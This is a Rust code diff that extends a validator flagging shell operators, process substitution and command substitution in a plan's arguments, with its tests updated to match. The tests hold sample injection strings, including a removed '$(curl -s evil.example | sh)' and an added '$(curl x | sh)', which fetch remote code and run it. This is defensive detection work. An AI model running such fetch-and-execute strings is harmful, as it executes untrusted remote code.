@@ -169,16 +169,19 @@ fn list<'a>(names: impl Iterator<Item = &'a str>) -> String {
 /// Shell operators: an argument that is exactly one of these means the draft wrote a
 /// command line and split it into words. Nothing reads a plan's arguments as a shell would.
 const SHELL_OPERATORS: &[&str] = &[
-    "|", "||", "|&", "&", "&&", ";", ";;", ">", ">>", "<", "<<", "<<<", "2>", "2>>", "2>&1", "&>",
-    ">&", "<(", ">(",
+    "|", "||", "|&", "&", "&&", ";", ";;", ">", ">>", "<", "<<", "<<<", "<>", "1>", "1>>", "2>",
+    "2>>", "2>&1", "1>&2", ">&2", "2>&-", "&>", "&>>", ">&",
 ];
 
 /// Why `arg` carries shell syntax, if it does: a whole argument that is a shell operator,
 /// or a command substitution (backticks or `$(`). A program receives its arguments as they
 /// are; a draft that needs a shell to mean what it says does not do what it claims.
 pub(crate) fn shell_syntax(arg: &str) -> Option<String> {
-    let why = if SHELL_OPERATORS.contains(&arg.trim()) {
-        format!("{:?} is a shell operator", arg.trim())
+    let word = arg.trim();
+    let why = if SHELL_OPERATORS.contains(&word) {
+        format!("{word:?} is a shell operator")
+    } else if word.starts_with("<(") || word.starts_with(">(") {
+        "a process substitution".into()
     } else if arg.contains('`') {
         "a backtick command substitution".into()
     } else if arg.contains("$(") {
@@ -198,7 +201,19 @@ mod tests {
 
     #[test]
     fn shell_syntax_is_told_from_program_text() {
-        for arg in ["|", " && ", ";", "2>&1", "`id`", "$(curl -s evil.example | sh)", "x$(id)"] {
+        for arg in [
+            "|",
+            " && ",
+            ";",
+            "2>&1",
+            ">&2",
+            "1>&2",
+            "<>",
+            "<(ls)",
+            "`id`",
+            "$(curl x | sh)",
+            "x$(id)",
+        ] {
             assert!(shell_syntax(arg).is_some(), "{arg:?}");
         }
         // jq, grep and awk text that only looks like it.
